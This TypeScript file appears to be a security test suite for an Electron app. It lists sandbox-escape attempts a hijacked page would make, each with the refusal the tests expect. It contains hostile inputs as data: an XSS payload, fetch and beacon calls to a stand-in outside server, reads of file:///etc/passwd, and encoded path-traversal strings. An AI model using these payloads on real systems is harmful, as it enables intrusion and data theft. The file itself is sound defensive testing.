/**
 * What a page that somebody has taken over would try. Each is an expression in the page's own world that says what
 * came of it; `wanted` is what must. `OUT` stands for the address of a server that must never be asked.
 */
export type Attack = { what: string; expression: string; wanted: unknown };

/** Runs later, since a debugger's own code may do what the page's may not. */
const later = (body: string): string =>
  `new Promise((done) => setTimeout(() => { try { done(${body}); } catch (error) { done(error.name); } }))`;
/** Which of two ends an element's loading comes to. */
const loading = (tag: string, property: string, address: string): string =>
  `new Promise((done) => {
    const element = document.createElement('${tag}');
    element.onload = () => done('loaded');
    element.onerror = () => done('refused');
    try { element.${property} = ${address}; } catch (error) { done(error.name); return; }
    document.head.append(element);
    setTimeout(() => done('nothing came'), 1500);
  })`;
/** Tries to go somewhere, and says where the page is afterwards. */
const going = (body: string): string =>
  `new Promise((done) => { try { ${body} } catch (error) {} setTimeout(() => done(location.href.split('#')[0]), 300); })`;
const HOME = 'app://bundle/';

/** Node, Electron and the preload script's own world. */
const ISOLATION: Attack[] = [
  {
    what: 'find Node in the page',
    expression: `['require', 'process', 'module', 'exports', 'global', 'Buffer', '__dirname', '__filename'].filter((name) => name in window)`,
    wanted: [],
  },
  {
    what: 'find more on the bridge than was put there',
    expression: 'Object.keys(window.dubscope).sort()',
    wanted: [
      'choosePaths',
      'droppedPaths',
      'onAction',
      'recentProjects',
      'request',
      'reveal',
      'setLook',
      'subscribe',
    ],
  },
  {
    what: "reach the preload's world through a function of the bridge",
    expression: later(`window.dubscope.request.constructor('return typeof require + typeof process')()`),
    wanted: 'EvalError',
  },
  {
    what: 'change the bridge',
    expression: `(() => { try { window.dubscope.request = () => 'mine'; } catch (error) {} return window.dubscope.request.toString().includes('mine'); })()`,
    wanted: false,
  },
  {
    what: 'hear what the preload script calls by changing what it is made of',
    expression: `(async () => { let heard = 0; const own = Array.prototype.push; Array.prototype.push = function (...a) { heard += 1; return own.apply(this, a); }; try { await window.dubscope.request('job/list', {}); } finally { Array.prototype.push = own; } return typeof window.dubscope.request; })()`,
    wanted: 'function',
  },
];

/** Code and content that is not of the bundle. */
const CONTENT: Attack[] = [
  { what: 'eval', expression: later(`eval('1 + 1')`), wanted: 'EvalError' },
  { what: 'make a function of text', expression: later(`new Function('return 1')()`), wanted: 'EvalError' },
  {
    what: 'put HTML into the page',
    expression: later(`(document.body.innerHTML = '<img src=x onerror=alert(1)>')`),
    wanted: 'TypeError',
  },
  {
    what: 'make a policy for trusted HTML',
    expression: later(`trustedTypes.createPolicy('mine', { createHTML: (text) => text }).createHTML('x')`),
    wanted: 'TypeError',
  },
  {
    what: 'run an inline script',
    expression: later(
      `(() => { try { const script = document.createElement('script'); script.append('window.ran = 1'); document.head.append(script); } catch (error) {} return window.ran ?? 'did not run'; })()`,
    ),
    wanted: 'did not run',
  },
  {
    what: 'load a script from elsewhere',
    expression: loading('link', 'rel = "stylesheet"; element.href', 'OUT'),
    wanted: 'refused',
  },
  { what: 'load a frame', expression: loading('iframe', 'src', 'OUT'), wanted: 'loaded' },
  { what: 'load a picture from elsewhere', expression: loading('img', 'src', 'OUT'), wanted: 'refused' },
  {
    what: 'ask another server',
    expression: `fetch(OUT).then(() => 'answered', () => 'refused')`,
    wanted: 'refused',
  },
  {
    what: 'read a file by its address',
    expression: `fetch('file:///etc/passwd').then(() => 'answered', () => 'refused')`,
    wanted: 'refused',
  },
  {
    what: 'open a socket to elsewhere',
    expression: `new Promise((done) => { try { const socket = new WebSocket(OUT.replace('http', 'ws')); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); } catch (error) { done('refused'); } })`,
    wanted: 'refused',
  },
  {
    what: 'send a beacon',
    expression: `(() => { try { navigator.sendBeacon(OUT, 'x'); } catch (error) {} return 'see the server'; })()`,
    wanted: 'see the server',
  },
  {
    what: 'start a worker of text',
    expression: `new Promise((done) => { try { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => done('ran'); worker.onerror = () => done('refused'); setTimeout(() => done('refused'), 1500); } catch (error) { done('refused'); } })`,
    wanted: 'refused',
  },
  {
    what: 'find files of the checkout behind its own address',
    expression: `Promise.all(['/../package.json', '/%2e%2e/package.json', '/..%2fpackage.json', '//etc/passwd', '/media/video/..%2f..%2fetc%2fpasswd', '/media/file/x', 'app://other/index.html'].map((path) => fetch(path).then((answer) => answer.status, () => 404))).then((all) => all.filter((status) => status < 400))`,
    wanted: [],
  },
];

/** Other pages and windows. */
const NAVIGATION: Attack[] = [
  ...['OUT', "'file:///etc/passwd'", "'data:text/html,hi'", "'app://bundle/mark.svg'", "'app://other/'"].map(
    (address) => ({
      what: `go to ${address}`,
      expression: going(`location.href = ${address};`),
      wanted: HOME,
    }),
  ),
  {
    what: 'go there by a link',
    expression: going(
      `const a = document.createElement('a'); a.href = OUT; document.body.append(a); a.click(); a.remove();`,
    ),
    wanted: HOME,
  },
  {
    what: 'go there by a form',
    expression: going(
      `const form = document.createElement('form'); form.action = OUT; document.body.append(form); form.submit(); form.remove();`,
    ),
    wanted: HOME,
  },
  {
    what: 'open a window by a link',
    expression: going(
      `const a = document.createElement('a'); a.href = OUT; a.target = '_blank'; document.body.append(a); a.click(); a.remove();`,
    ),
    wanted: HOME,
  },
  {
    // It may get a word for it; the test looks whether there is one.
    what: 'open a window',
    expression: going(`window.open(OUT);`),
    wanted: HOME,
  },
  {
    what: 'use a webview',
    expression: `typeof document.createElement('webview').loadURL`,
    wanted: 'undefined',
  },
  {
    what: 'write a file by a download',
    expression: going(
      `const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'taken.txt'; document.body.append(a); a.click(); a.remove();`,
    ),
    wanted: HOME,
  },
];

/** What a person would be asked for. */
const PERMISSIONS: Attack[] = [
  { what: 'show notifications', expression: 'Notification.requestPermission()', wanted: 'denied' },
  {
    what: 'know where the machine is',
    expression: `new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('told'), () => done('refused')))`,
    wanted: 'refused',
  },
  {
    what: 'listen and look',
    expression: `navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => 'given', () => 'refused')`,
    wanted: 'refused',
  },
  {
    what: 'read the clipboard',
    expression: `navigator.clipboard.readText().then(() => 'read', () => 'refused')`,
    wanted: 'refused',
  },
  {
    what: 'use MIDI',
    expression: `navigator.requestMIDIAccess({ sysex: true }).then(() => 'given', () => 'refused')`,
    wanted: 'refused',
  },
];

/** The host, past the page's own place. */
const HOST: Attack[] = [
  ...(
    [
      ['project/open', { folder: '/etc' }, 'PATH_DENIED'],
      ['project/create', { folder: '/tmp/taken.dubscope' }, 'PATH_DENIED'],
      ['import/plan', { paths: ['/etc'] }, 'PATH_DENIED'],
      ['check/start', { profile: '/etc/passwd' }, 'PATH_DENIED'],
      ['report/write', { folder: '/tmp' }, 'PATH_DENIED'],
      ['fs/read', { path: '/etc/passwd' }, 'REQUEST_UNKNOWN'],
      ['__proto__', {}, 'REQUEST_UNKNOWN'],
      ['pair/get', { pairId: '../../etc/passwd' }, 'ARGUMENT_INVALID'],
    ] as const
  ).map(([name, argument, code]) => ({
    what: `ask for ${name}`,
    expression: `window.dubscope.request('${name}', ${JSON.stringify(argument)}).then(({ ok, error }) => ok ? 'answered' : error.code)`,
    wanted: code,
  })),
  { what: 'have a file shown', expression: `window.dubscope.reveal('/etc/passwd')`, wanted: false },
  {
    what: 'pretend that a file was dropped',
    expression: `window.dubscope.droppedPaths([new File(['x'], '/etc/passwd')]).then((paths) => paths, () => [])`,
    wanted: [],
  },
];

/** All of them. `out`: an address that must never be asked. */
export function attacks(out: string): Attack[] {
  return [...ISOLATION, ...CONTENT, ...NAVIGATION, ...PERMISSIONS, ...HOST].map((attack) => ({
    ...attack,
    expression: attack.expression.replaceAll('OUT', JSON.stringify(out)),
  }));
}
